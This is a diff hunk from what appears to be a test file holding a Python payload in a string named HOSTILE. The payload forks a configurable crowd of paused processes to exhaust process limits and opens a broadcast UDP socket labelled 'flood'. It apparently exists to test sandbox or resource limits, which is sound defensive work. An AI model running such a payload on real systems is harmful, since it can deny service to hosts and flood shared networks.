@@ -40,10 +40,10 @@ const HOSTILE = `
 import ctypes, os, socket, subprocess, sys
 crowd = int(sys.argv[1])
 os.nice(5)
-for i in range(crowd):
-    if os.fork() == 0:
-        ctypes.CDLL(None).pause()
-        os._exit(0)
+if os.fork() == 0:
+    for i in range(crowd):
+        if os.fork() == 0: break
+    ctypes.CDLL(None).pause()
 if os.fork() == 0:
     flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     flood.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
